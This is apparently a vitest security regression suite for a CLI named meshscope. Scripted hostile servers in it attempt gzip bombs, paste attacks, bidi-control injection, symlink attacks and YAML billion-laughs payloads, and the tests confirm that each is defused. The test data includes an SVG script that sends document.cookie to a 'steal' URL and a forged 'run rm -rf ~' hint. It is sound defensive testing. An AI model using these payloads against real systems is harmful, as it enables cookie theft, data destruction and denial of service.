/**
 * Hostile servers against the operator's own machine: what a server (or a planted file) can do to
 * the clipboard, the disk, memory, the files of the current folder, the terminal and the
 * credentials. Each test reproduces one hole with a scripted loopback server (test/hostile/local.ts)
 * in front of the mock, and holds its fix.
 */
import { spawn } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadScenario } from '../../src/mock/scenario.js';
import type { MockHandle } from '../../src/mock/server.js';
import { BIN, cleanEnv, ESCAPE, ROOT, runCli, startTestMock, tmp } from '../helpers.js';
import { BIDI, PASTE_ATTACK, pour, sendJson, startScripted, type Script, type ScriptedServer } from '../hostile/local.js';

let mock: MockHandle;
const servers: ScriptedServer[] = [];

beforeAll(async () => {
  mock = await startTestMock();
}, 30_000);

afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
  await mock?.close();
});

async function scripted(upstream: string | undefined, script: Script, onSocket?: Parameters<typeof startScripted>[2]): Promise<ScriptedServer> {
  const s = await startScripted(upstream, script, onSocket);
  servers.push(s);
  return s;
}

/** The mock's answer to `path` on one backend, parsed. */
async function upstreamJson(base: string, path: string): Promise<Record<string, unknown>> {
  return (await (await fetch(`${base}${path}`)).json()) as Record<string, unknown>;
}

const NO_RAW_BIDI = /[\u202a-\u202e\u2066-\u2069]/;

describe('1: a gzip bomb stops at the profile ceiling, quickly and in bounded memory', () => {
  // 256 MiB of zeros packs into about 256 KB: what a hostile grid (or a planted file) can hand over
  const bomb = gzipSync(Buffer.alloc(256 * 1024 ** 2), { level: 9 });

  it('pprof top of a bomb file: refused with the limit named (exit 2), nothing unpacked past it', async () => {
    const dir = tmp('gzip-bomb');
    const file = join(dir, 'cpu.pb.gz');
    writeFileSync(file, bomb);
    const r = await runCli(['pprof', 'top', file]);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(`error: ${file} unpacks to more than 64.0 MiB, the most meshscope reads of a profile (invalid_profile)`);
    expect(r.stderr).toMatch(/hint: .*--max-size/);
    // the ceiling is the user's to set
    const real = join(ROOT, 'fixtures', 'real', 'go-pprof', 'heap.pb.gz');
    const tight = await runCli(['pprof', 'top', real, '--max-size', '1KiB']);
    expect(tight.code).toBe(2);
    expect(tight.stderr).toContain('unpacks to more than 1.0 KiB');
    expect((await runCli(['pprof', 'top', real, '--max-size', 'lots'])).stderr).toContain('invalid --max-size "lots"');
  }, 60_000);

  it('pprof capture of a bomb answer from the grid: refused the same way, nothing written', async () => {
    const grid = await scripted(mock.urls.grid, (req, res) => {
      if (req.method !== 'POST') return false;
      res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename=cpu.pb.gz', 'content-length': bomb.length });
      res.end(bomb);
      return true;
    });
    const dir = tmp('gzip-bomb-capture');
    const out = join(dir, 'cpu.pb.gz');
    const r = await runCli(['pprof', 'capture', '--client', loadScenario('healthy').grid!.nodes[0]!.id, '--profile', 'cpu', '-f', out, '--grid-url', grid.url], { env: cleanEnv({ GRID_TOKEN: 'dev' }) });
    // a server that sends something that is not a profile is a server failure (exit 1)
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toContain('the grid answered with something that is not a pprof profile');
    expect(r.stderr).toContain('unpacks to more than 64.0 MiB');
    expect(existsSync(out)).toBe(false);
    expect(readdirSync(dir)).toEqual([]);
  }, 60_000);
});

describe('2: the browser copies only what is safe to paste', () => {
  it('the issue\'s reference (150 spaces, a bracketed-paste terminator, a command and a newline) is refused, with what it holds shown escaped', async () => {
    const admin = await scripted(mock.urls.admin, async (req, res) => {
      if (req.url !== '/v1/root') return false;
      const root = await upstreamJson(mock.urls.admin, '/v1/root');
      return sendJson(res, 200, { ...root, children: [...(root.children as string[]), PASTE_ATTACK] });
    });
    const [{ HttpClient }, { AdminClient }, screen, { selectRows }] = await Promise.all([
      import('../../src/http/client.js'),
      import('../../src/backends/admin/client.js'),
      import('../unit/tui-screen.js'),
      import('../../src/tui/state.js'),
    ]);
    const http = new HttpClient({ backend: 'admin', url: admin.url }, { timeoutMs: 10_000 });
    const copied: string[] = [];
    const s = await screen.openScreen(screen.worldFrom({ hosts: 1, procs_per_host: 1, actors_per_proc: 1 }), { columns: 160, rows: 45 }, {
      admin: new AdminClient(http) as never,
      copy: (text: string) => {
        copied.push(text);
        return 'the terminal’s clipboard (OSC 52)';
      },
    });
    try {
      const row = await (async () => {
        for (let i = 0; i < 100; i++) {
          const r = selectRows(s.c.state).find((x) => x.ref === PASTE_ATTACK);
          if (r) return r;
          await new Promise((r) => setTimeout(r, 50));
        }
        throw new Error('the hostile reference was never listed');
      })();
      s.c.dispatch({ type: 'select', key: row.key });
      await s.press('y');
      expect(copied).toEqual([]);
      const note = s.c.state.notice?.text ?? '';
      expect(note).toMatch(/^not copied: /);
      // what the reference holds is shown, escaped: the terminator, the line breaks
      expect(note).toContain('\\x1b[201~');
      expect(note).not.toMatch(/[\x00-\x1f]/);
      const footer = s.lines().slice(-2).join('\n');
      expect(footer).toContain('not copied');
      expect(footer).not.toMatch(/^copied/m);
      // an ordinary reference is still copied, exactly
      s.c.dispatch({ type: 'select', key: selectRows(s.c.state).find((x) => x.ref === 'root')!.key });
      await s.press('y');
      expect(copied).toEqual(['root']);
    } finally {
      s.close();
      await http.close();
    }
  });
});

describe('3: downloads have a size ceiling', () => {
  /** An mn server whose final artifact and video never end (or announce `announce` bytes). */
  async function endlessMn(announce?: number): Promise<ScriptedServer> {
    return scripted(mock.urls.mn, (req, res) => {
      if (!/\/runs\/[^/]+\/(final-artifact|ui\/video)$/.test(req.url ?? '')) return false;
      res.writeHead(200, { 'content-type': 'application/octet-stream', ...(announce !== undefined ? { 'content-length': String(announce) } : {}) });
      // an announced body is cut after 4 MiB: a client that trusts the announcement reads that much
      pour(res, Buffer.alloc(256 * 1024, 'z'), announce !== undefined ? 4 * 1024 * 1024 : Infinity, 'cut');
      return true;
    });
  }

  it('an endless artifact stops at --max-size: exit 1, the limit named, nothing written', async () => {
    const mn = await endlessMn();
    const dir = tmp('max-size');
    const file = join(dir, 'a.json');
    const r = await runCli(['run', 'artifact', 'run-1', '-O', file, '--max-size', '2MiB', '--mn-url', mn.url], { env: cleanEnv() });
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/^error: .*final artifact.* larger than --max-size 2\.0 MiB.*nothing was written \(response_too_large\)$/m);
    expect(r.stderr).toMatch(/^hint: .*--max-size/m);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('an endless video stops at --max-size too', async () => {
    const mn = await endlessMn();
    const dir = tmp('max-size-video');
    const r = await runCli(['run', 'ui', 'run-1', '--video', join(dir, 'v.mp4'), '--max-size', '1MiB', '--mn-url', mn.url], { env: cleanEnv() });
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/video.* larger than --max-size 1\.0 MiB/);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('a Content-Length over the default ceiling (1 GiB) is refused before anything is written', async () => {
    const mn = await endlessMn(3 * 1024 ** 3);
    const dir = tmp('max-size-announced');
    const r = await runCli(['run', 'artifact', 'run-1', '-O', join(dir, 'a.json'), '--mn-url', mn.url], { env: cleanEnv() });
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/^error: the server announced 3\.0 GiB for the final artifact, over --max-size 1\.0 GiB \(the default\); nothing was written \(response_too_large\)$/m);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('a Content-Length over the free space of the folder is refused before anything is written', async () => {
    const mn = await endlessMn(2 ** 52);
    const dir = tmp('max-size-disk');
    const r = await runCli(['run', 'artifact', 'run-1', '-O', join(dir, 'a.json'), '--max-size', '5PiB', '--mn-url', mn.url], { env: cleanEnv() });
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/^error: the server announced 4\.0 PiB for the final artifact, more than the .* free in .*; nothing was written \(no_space\)$/m);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('--max-size takes sizes people write and refuses the rest (exit 2)', async () => {
    for (const bad of ['lots', '-1', '0', '1.5.2G', '10XB']) {
      const r = await runCli(['run', 'artifact', 'run-1', '--max-size', bad, '--mn-url', 'http://127.0.0.1:9/api/v1'], { env: cleanEnv() });
      expect(r.code, bad).toBe(2);
      expect(r.stderr).toMatch(/invalid --max-size/);
    }
  });

  it('a run id is never a path: `run artifact ../x` writes in the current folder', async () => {
    const mn = await scripted(mock.urls.mn, (req, res) => (/\/final-artifact$/.test(req.url ?? '') ? sendJson(res, 200, { ok: true }) : false));
    const parent = tmp('runid');
    const cwd = join(parent, 'here');
    mkdirSync(cwd);
    const was = process.cwd();
    process.chdir(cwd);
    try {
      const r = await runCli(['run', 'artifact', '../x', '--mn-url', mn.url], { env: cleanEnv() });
      expect(r.code, r.stderr).toBe(0);
      expect(readdirSync(parent).sort()).toEqual(['here']);
      expect(readdirSync(cwd)).toEqual(['x-final_artifact.json']);
    } finally {
      process.chdir(was);
    }
  });
});

describe('4: every source of insecurity warns, naming it', () => {
  let tls: MockHandle;
  beforeAll(async () => {
    tls = await startTestMock({ tls: true });
  }, 30_000);
  afterAll(async () => {
    await tls?.close();
  });

  it('a context\'s insecure: true warns for the endpoint it turns verification off for', async () => {
    const env = cleanEnv();
    writeFileSync(
      env.MESHSCOPE_CONFIG!,
      `contexts:\n  lab:\n    mn: { url: "${tls.urls.mn}", insecure: true }\n    admin: { url: "${tls.urls.admin}", insecure: true, cert: "${tls.tls!.clientCert}", key: "${tls.tls!.clientKey}" }\n`,
    );
    const mn = await runCli(['runtime', 'health', '--context', 'lab'], { env });
    expect(mn.code, mn.stderr).toBe(0);
    expect(mn.stderr).toMatch(/^warning: TLS certificates of mn \(https:\/\/127\.0\.0\.1:\d+\/api\/v1\) are not verified: insecure: true in context "lab" \(mn\.insecure\)/m);
    for (const args of [['mesh', 'info'], ['diagnose', '-o', 'json']]) {
      const r = await runCli([...args, '--context', 'lab'], { env });
      if (args[0] === 'mesh') expect(r.code, r.stderr).toBe(0);
      expect(r.stderr, args.join(' ')).toMatch(/^warning: TLS certificates of admin \(https:\/\/127\.0\.0\.1:\d+\) are not verified: insecure: true in context "lab" \(admin\.insecure\)/m);
      expect(r.stderr.match(/^warning: TLS/gm)).toHaveLength(1);
    }
    // the flag still warns once, for every backend
    const flag = await runCli(['runtime', 'health', '--mn-url', tls.urls.mn, '--insecure'], { env: cleanEnv() });
    expect(flag.code, flag.stderr).toBe(0);
    expect(flag.stderr.match(/^warning: /gm)).toHaveLength(1);
    expect(flag.stderr).toMatch(/^warning: --insecure:/m);
  });

  it('--cacert is the admin server\'s CA: an mn command says so and names --mn-ca', async () => {
    const wrong = await runCli(['runtime', 'health', '--mn-url', tls.urls.mn, '--cacert', tls.tls!.ca], { env: cleanEnv() });
    expect(wrong.code, wrong.stderr).toBe(4);
    expect(wrong.stderr).toMatch(/^hint: --cacert is the CA of the admin server only; pass --mn-ca FILE/m);
    expect(wrong.stderr).toMatch(/^warning: --cacert is the CA of the admin server only: the certificate of mn \(https:\/\/127\.0\.0\.1:\d+\/api\/v1\) is checked against the system's CAs; pass --mn-ca FILE for mn$/m);
    const right = await runCli(['runtime', 'health', '--mn-url', tls.urls.mn, '--mn-ca', tls.tls!.ca], { env: cleanEnv() });
    expect(right.code, right.stderr).toBe(0);
    const grid = await runCli(['pprof', 'capture', '--client', 'n', '--profile', 'heap', '--grid-url', tls.urls.grid, '--cacert', tls.tls!.ca], { env: cleanEnv({ GRID_TOKEN: 't' }) });
    expect(grid.code, grid.stderr).toBe(4);
    expect(grid.stderr).toMatch(/^hint: --cacert is the CA of the admin server only; pass --grid-ca FILE/m);
  });
});

describe('5: WebSocket streaming keeps a bounded amount', () => {
  /** An astromesh daemon whose agent answers with `frames` token frames of `size` bytes each, then done (no answer). */
  async function tokenDaemon(frames: number, size: number): Promise<ScriptedServer> {
    return scripted(mock.urls.astromesh, () => false, (ws) => {
      ws.once('message', () => {
        const token = JSON.stringify({ type: 'token', content: 't'.repeat(size - 1) + '\n' });
        let sent = 0;
        const next = (): void => {
          if (sent === frames) return void ws.send(JSON.stringify({ type: 'done', session_id: 's' }));
          sent++;
          ws.send(token, (err) => (err ? undefined : next()));
        };
        next();
      });
    });
  }

  it('300 token frames of 1 MiB stream to stdout as they arrive, in bounded memory', async () => {
    const daemon = await tokenDaemon(300, 1024 * 1024);
    const rssFile = join(tmp('ws-rss'), 'rss');
    const env = { ...cleanEnv(), NODE_OPTIONS: `--require ${join(import.meta.dirname, '..', 'hostile', 'rss.cjs')}`, MESHSCOPE_TEST_RSS_FILE: rssFile };
    const r = await new Promise<{ code: number | null; bytes: number; stderr: string }>((resolve) => {
      const child = spawn(process.execPath, [BIN, 'agent', 'run', 'assistant', 'hi', '--stream', '--astromesh-url', daemon.url], { env, stdio: ['ignore', 'pipe', 'pipe'] });
      let bytes = 0;
      let stderr = '';
      child.stdout.on('data', (d: Buffer) => (bytes += d.length));
      child.stderr.setEncoding('utf8').on('data', (d) => (stderr += d));
      const timer = setTimeout(() => child.kill('SIGKILL'), 240_000);
      child.on('close', (code) => {
        clearTimeout(timer);
        resolve({ code, bytes, stderr });
      });
    });
    expect(r.code, r.stderr).toBe(0);
    expect(r.bytes).toBe(300 * 1024 * 1024);
    const rssMb = Number(readFileSync(rssFile, 'utf8')) / 1024;
    console.log(`agent run --stream, 300 MiB of tokens: peak RSS ${rssMb.toFixed(0)} MB`);
    expect(rssMb, `peak RSS ${rssMb.toFixed(0)} MB`).toBeLessThan(300);
  }, 300_000);

  it('a long stream is still compared with the final answer: printed once, or completed, or followed by the answer that differs', async () => {
    const part = 'p'.repeat(700 * 1024);
    const cases: Array<[string, string]> = [
      [part + part, part + part],
      [part + part + ' and the rest.', part + part + ' and the rest.'],
      ['something else', `${part}${part}\nsomething else`],
    ];
    for (const [answer, stdout] of cases) {
      const daemon = await scripted(mock.urls.astromesh, () => false, (ws) =>
        ws.once('message', () => ws.send(JSON.stringify({ type: 'token', content: part }), () => ws.send(JSON.stringify({ type: 'token', content: part }), () => ws.send(JSON.stringify({ type: 'done', answer }))))),
      );
      const r = await runCli(['agent', 'run', 'assistant', 'hi', '--stream', '--astromesh-url', daemon.url], { env: cleanEnv() });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout.length).toBe(stdout.length + 1);
      expect(r.stdout === `${stdout}\n`).toBe(true);
    }
  });

  it('a frame over the client\'s limit is named as such, with the limit', async () => {
    const daemon = await tokenDaemon(1, 17 * 1024 * 1024);
    const r = await runCli(['agent', 'run', 'assistant', 'hi', '--stream', '--astromesh-url', daemon.url], { env: cleanEnv() });
    expect(r.code, r.stderr).toBe(1);
    expect(r.stderr).toMatch(/^error: .*a WebSocket message larger than meshscope's limit of 16\.0 MiB.* \(frame_too_large\)$/m);
    expect(r.stderr).not.toMatch(/connection was dropped/);
  });
});

describe('6: a bearer token never goes to a default endpoint unsaid', () => {
  it('MN_API_TOKEN with no mn URL chosen: a warning names the plain-http default before anything is sent', async () => {
    const r = await runCli(['runtime', 'health', '--request-timeout', '3s'], { env: cleanEnv({ MN_API_TOKEN: 'real-secret' }) });
    expect(r.stderr).toMatch(/^warning: the mn bearer token \(env MN_API_TOKEN\) goes over plain http to http:\/\/localhost:54001\/api\/v1, the default address: no mn URL was chosen, and any program on this machine can listen there/m);
    expect(r.stderr.indexOf('warning:')).toBe(0);
    expect(r.stderr + r.stdout).not.toContain('real-secret');
  });

  it('GRID_TOKEN with no grid URL chosen: the default https endpoint is named too', async () => {
    const r = await runCli(['pprof', 'capture', '--client', 'n', '--profile', 'heap', '--request-timeout', '3s'], { env: cleanEnv({ GRID_TOKEN: 'real-secret' }) });
    expect(r.stderr).toMatch(/^warning: the grid bearer token \(env GRID_TOKEN\) goes to https:\/\/localhost:8443, the default address: no grid URL was chosen/m);
  });

  it('an explicitly chosen URL gets the token without a warning', async () => {
    const mn = await scripted(mock.urls.mn, () => false);
    const r = await runCli(['runtime', 'health', '--mn-url', mn.url], { env: cleanEnv({ MN_API_TOKEN: 'real-secret' }) });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).not.toMatch(/warning/);
    expect(mn.seen.some((s) => s.headers.authorization === 'Bearer real-secret')).toBe(true);
  });
});

describe('7: --force replaces only a name the user gave', () => {
  const node = loadScenario('healthy').grid!.nodes[0]!.id;
  async function namingGrid(filename: string): Promise<ScriptedServer> {
    return scripted(mock.urls.grid, async (req, res, body) => {
      if (req.method !== 'POST') return false;
      const up = await fetch(`${mock.urls.grid}${req.url}`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: String(req.headers.authorization ?? '') }, body: new Uint8Array(body) });
      const bytes = Buffer.from(await up.arrayBuffer());
      res.writeHead(up.status, { 'content-type': 'application/octet-stream', 'content-disposition': `attachment; filename=${filename}`, 'content-length': bytes.length });
      res.end(bytes);
      return true;
    });
  }

  async function inFolder<T>(dir: string, fn: () => Promise<T>): Promise<T> {
    const was = process.cwd();
    process.chdir(dir);
    try {
      return await fn();
    } finally {
      process.chdir(was);
    }
  }

  it('a server-chosen Makefile is saved as heap-Makefile, and ./Makefile is never replaced, even with --force', async () => {
    const grid = await namingGrid('Makefile');
    const dir = tmp('force-server-name');
    writeFileSync(join(dir, 'Makefile'), 'all:\n\ttrue\n');
    const env = cleanEnv({ GRID_TOKEN: 'dev' });
    const first = await inFolder(dir, () => runCli(['pprof', 'capture', '--client', node, '--profile', 'heap', '--force', '--grid-url', grid.url], { env }));
    expect(first.code, first.stderr).toBe(0);
    expect(readFileSync(join(dir, 'Makefile'), 'utf8')).toBe('all:\n\ttrue\n');
    expect(readdirSync(dir).sort()).toEqual(['Makefile', 'heap-Makefile']);
    // the same server name again: --force does not replace what the user did not name
    const again = await inFolder(dir, () => runCli(['pprof', 'capture', '--client', node, '--profile', 'heap', '--force', '--grid-url', grid.url], { env }));
    expect(again.code).toBe(2);
    expect(again.stderr).toMatch(/^error: .*heap-Makefile already exists \(file_exists\)$/m);
    expect(again.stderr).toMatch(/^hint: the server chose this name; --force replaces only a file named with -f\/--out/m);
  });

  it('a server-chosen name never starts with a dash', async () => {
    const grid = await namingGrid('-rf');
    const dir = tmp('force-dash');
    const r = await inFolder(dir, () => runCli(['pprof', 'capture', '--client', node, '--profile', 'heap', '--grid-url', grid.url], { env: cleanEnv({ GRID_TOKEN: 'dev' }) }));
    expect(r.code, r.stderr).toBe(0);
    expect(readdirSync(dir)).toEqual(['heap--rf']);
    expect(r.stderr).toMatch(/read it with: meshscope pprof top heap--rf$/m);
  });

  it('--force with -f still replaces the file the user named', async () => {
    const grid = await namingGrid('Makefile');
    const dir = tmp('force-user-name');
    writeFileSync(join(dir, 'mine.pb.gz'), 'old');
    const r = await runCli(['pprof', 'capture', '--client', node, '--profile', 'heap', '--force', '-f', join(dir, 'mine.pb.gz'), '--grid-url', grid.url], { env: cleanEnv({ GRID_TOKEN: 'dev' }) });
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(join(dir, 'mine.pb.gz'))[0]).toBe(0x1f);
  });
});

describe('8: line breaks and bidi controls from a server are shown escaped', () => {
  const startedBy = `ops\nstatus:     healthy${BIDI}`;
  let admin: ScriptedServer;
  beforeAll(async () => {
    admin = await scripted(mock.urls.admin, async (req, res) => {
      if (req.url !== '/v1/root') return false;
      const root = (await upstreamJson(mock.urls.admin, '/v1/root')) as { properties: { Root: Record<string, unknown> } };
      root.properties.Root.started_by = startedBy;
      return sendJson(res, 200, root);
    });
  });

  it('key/value output: a forged line stays on its line, visibly escaped', async () => {
    const r = await runCli(['mesh', 'root', '--addr', admin.url, '--plaintext'], { env: cleanEnv() });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(/^status:/m);
    expect(r.stdout).toMatch(/^started by:\s+ops\\nstatus: {5}healthy\\u202e\\u2066$/m);
    expect(r.stdout).not.toMatch(NO_RAW_BIDI);
  });

  it('json and yaml keep the value exact, with the bidi controls written as escapes', async () => {
    const json = await runCli(['mesh', 'root', '-o', 'json', '--addr', admin.url, '--plaintext'], { env: cleanEnv() });
    expect(json.stdout).not.toMatch(NO_RAW_BIDI);
    expect(JSON.parse(json.stdout).properties.Root.started_by).toBe(startedBy);
    const yaml = await runCli(['mesh', 'root', '-o', 'yaml', '--addr', admin.url, '--plaintext'], { env: cleanEnv() });
    expect(yaml.stdout).not.toMatch(NO_RAW_BIDI);
    const { parse } = await import('yaml');
    expect(parse(yaml.stdout).properties.Root.started_by).toBe(startedBy);
  });

  it('tables, names, streamed tokens and errors carry no raw bidi control', async () => {
    const jobs = (await upstreamJson(mock.urls.mn, '/jobs')) as { data: Array<Record<string, unknown>> };
    const mn = await scripted(mock.urls.mn, (req, res) => {
      if (/^\/api\/v1\/jobs(\?|$)/.test(req.url ?? '')) return sendJson(res, 200, { ...jobs, data: jobs.data.map((j) => ({ ...j, job_id: `${j.job_id}${BIDI}`, job_name: `n\n${BIDI}` })) });
      if (/^\/api\/v1\/(runtime\/)?health/.test(req.url ?? '')) return sendJson(res, 500, { detail: `down${BIDI}\nhint: run rm -rf ~` });
      return false;
    });
    for (const args of [['job', 'list', '--all'], ['job', 'list', '--all', '-o', 'wide'], ['job', 'list', '--all', '-o', 'name'], ['runtime', 'health']]) {
      const r = await runCli([...args, '--mn-url', mn.url], { env: cleanEnv() });
      expect(r.stdout + r.stderr, args.join(' ')).not.toMatch(NO_RAW_BIDI);
      expect(r.stdout + r.stderr, args.join(' ')).not.toMatch(ESCAPE);
      expect(r.stderr, args.join(' ')).not.toMatch(/^hint: run rm/m);
    }
    const daemon = await scripted(mock.urls.astromesh, () => false, (ws) => ws.once('message', () => ws.send(JSON.stringify({ type: 'token', content: `abc${BIDI}def` }), () => ws.send(JSON.stringify({ type: 'done' })))));
    const r = await runCli(['agent', 'run', 'assistant', 'hi', '--stream', '--astromesh-url', daemon.url], { env: cleanEnv() });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toBe('abc\\u202e\\u2066def\n');
  });
});

describe('9: the contexts file is written through a private temporary file', () => {
  it('a symlink planted at the old temporary name is neither followed nor kept', async () => {
    const dir = tmp('cfg-symlink');
    const config = join(dir, 'config.yaml');
    const victim = join(dir, 'victim.txt');
    writeFileSync(victim, 'precious\n');
    symlinkSync(victim, `${config}.tmp-${process.pid}`);
    const env = cleanEnv({ MESHSCOPE_CONFIG: config });
    for (let i = 0; i < 2; i++) {
      const r = await runCli(['context', 'set', 'lab', `mn.url=http://mn-${i}:54001/api/v1`], { env });
      expect(r.code, r.stderr).toBe(0);
      expect(readFileSync(victim, 'utf8')).toBe('precious\n');
      expect(lstatSync(config).isSymbolicLink()).toBe(false);
      expect(statSync(config).mode & 0o777).toBe(0o600);
      expect(readFileSync(config, 'utf8')).toContain(`mn-${i}`);
    }
    // nothing of meshscope's is left beside it
    expect(readdirSync(dir).sort()).toEqual(['config.yaml', 'config.yaml.tmp-' + process.pid, 'victim.txt']);
  });
});

describe('also', () => {
  it('context show redacts a password in a URL, in every format', async () => {
    const env = cleanEnv();
    writeFileSync(env.MESHSCOPE_CONFIG!, 'contexts:\n  lab:\n    mn: { url: "http://ops:hunter2@mn.example:54001/api/v1" }\n');
    for (const o of ['table', 'json', 'yaml', 'wide']) {
      const r = await runCli(['context', 'show', 'lab', '-o', o], { env });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout + r.stderr, o).not.toContain('hunter2');
      expect(r.stdout, o).toContain('ops:***@mn.example');
    }
    // a problem that names the URL redacts it too
    writeFileSync(env.MESHSCOPE_CONFIG!, 'contexts:\n  lab:\n    mn: { url: "http://ops:hunter2@mn.example:54001/api/v1", ca: /nonexistent.pem }\n');
    const r = await runCli(['context', 'show', 'lab'], { env });
    expect(r.stdout + r.stderr).not.toContain('hunter2');
  });

  it('pyspy flamegraph --serve serves the server\'s SVG with a Content-Security-Policy that runs no script', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://127.0.0.1:1/steal?"+document.cookie)</script><rect width="1" height="1"/></svg>';
    const admin = await scripted(mock.urls.admin, (req, res) => (req.url?.startsWith('/v1/pyspy_profile_svg/') ? sendJson(res, 200, svg, 'image/svg+xml') : false));
    const walk = await runCli(['mesh', 'walk', '-o', 'json', '--addr', mock.urls.admin, '--plaintext'], { env: cleanEnv() });
    const proc = walk.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l))
      .find((n) => 'Proc' in n.properties && n.properties.Proc.num_actors > 0).identity as string;
    const stop = new AbortController();
    let url: string | undefined;
    const run = runCli(['pyspy', 'flamegraph', proc, '--duration', '1', '--serve', '0', '--addr', admin.url, '--plaintext'], {
      env: cleanEnv(),
      interrupt: stop.signal,
      onOutput: ({ stdout }) => {
        url ??= /(http:\/\/127\.0\.0\.1:\d+\/\S+\.svg)/.exec(stdout)?.[1];
      },
    });
    try {
      for (let i = 0; i < 400 && !url; i++) await new Promise((r) => setTimeout(r, 50));
      expect(url).toBeDefined();
      const res = await fetch(url!);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'");
      expect(await res.text()).toBe(svg);
    } finally {
      stop.abort();
      await run;
    }
  });

  it('a 200,000-deep JSON answer under -o json and -o yaml is an invalid answer (exit 1), named, not a crash', async () => {
    const depth = 200_000;
    const deep = `{"job":{"job_id":"j1","status":"running"},"x":${'['.repeat(depth)}${']'.repeat(depth)}}`;
    const mn = await scripted(mock.urls.mn, (req, res) => (/\/jobs\/j1(\?|$)/.test(req.url ?? '') ? sendJson(res, 200, deep) : false));
    for (const o of ['json', 'yaml', 'table']) {
      const r = await runCli(['job', 'get', 'j1', '-o', o, '--mn-url', mn.url], { env: cleanEnv() });
      expect(r.code, `${o}: ${r.stdout}${r.stderr}`).toBe(1);
      expect(r.stdout + r.stderr).toMatch(/nested more than 1000 levels deep/);
      expect(r.stdout + r.stderr).toMatch(/invalid_response/);
      expect(r.stdout + r.stderr).not.toMatch(/internal_error|call stack/);
    }
  });

  it('a 200,000-deep WebSocket frame or SSE event is refused with a documented exit code and a clear message, not a crash', async () => {
    const depth = 200_000;
    const nest = `${'['.repeat(depth)}${']'.repeat(depth)}`;
    const daemon = await scripted(mock.urls.astromesh, () => false, (ws) => ws.once('message', () => ws.send(`{"type":"tool_result","output":${nest}}`)));
    const ws = await runCli(['agent', 'run', 'assistant', 'hi', '--stream', '-o', 'json', '--astromesh-url', daemon.url], { env: cleanEnv() });
    expect(ws.code, ws.stderr).toBe(1);
    expect(ws.stdout + ws.stderr).toMatch(/nested more than 1000 levels deep \(invalid_frame\)|"code": "invalid_frame"/);
    const envs = (await upstreamJson(mock.urls.asya, '/api/v1/mesh/')) as { messages: Array<{ id: string }> };
    const id = envs.messages[0]!.id;
    const asya = await scripted(mock.urls.asya, (req, res) => {
      if (!/\/events$/.test(req.url ?? '') || req.method !== 'GET') return false;
      res.writeHead(200, { 'content-type': 'text/event-stream' });
      res.end(`event: status\ndata: {"status":"pending","deep":${nest}}\n\n`);
      return true;
    });
    const sse = await runCli(['envelope', 'watch', id, '-o', 'json', '--timeout', '10s', '--asya-url', asya.url], { env: cleanEnv() });
    expect([1, 4], sse.stderr).toContain(sse.code);
    expect(sse.stdout + sse.stderr).not.toMatch(/internal_error|Maximum call stack/);
    expect(sse.stdout + sse.stderr).toMatch(/nested too deeply/);
  });

  it('a billion-laughs contexts file is a bad config (exit 2), named, not a crash', async () => {
    const env = cleanEnv();
    const laughs = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
    for (const [i, c] of [...'bcdefghi'].entries()) {
      const prev = 'abcdefghi'[i];
      laughs.push(`${c}: &${c} [${Array(9).fill(`*${prev}`).join(',')}]`);
    }
    writeFileSync(env.MESHSCOPE_CONFIG!, `${laughs.join('\n')}\ncontexts: {}\n`);
    for (const args of [['context', 'list'], ['runtime', 'health', '--mn-url', 'http://127.0.0.1:9/api/v1'], ['context', 'set', 'x', 'mn.url=http://a:1']]) {
      const r = await runCli(args, { env });
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toMatch(/^error: .*config\.yaml: .*aliases.* \(bad_config\)$/m);
    }
    // and deep nesting is refused the same way
    writeFileSync(env.MESHSCOPE_CONFIG!, `contexts: {}\nx: ${'['.repeat(100_000)}${']'.repeat(100_000)}\n`);
    const deep = await runCli(['context', 'list'], { env });
    expect(deep.code, deep.stderr).toBe(2);
    expect(deep.stderr).toMatch(/\(bad_config\)$/m);
    expect(existsSync(env.MESHSCOPE_CONFIG!)).toBe(true);
  });
});
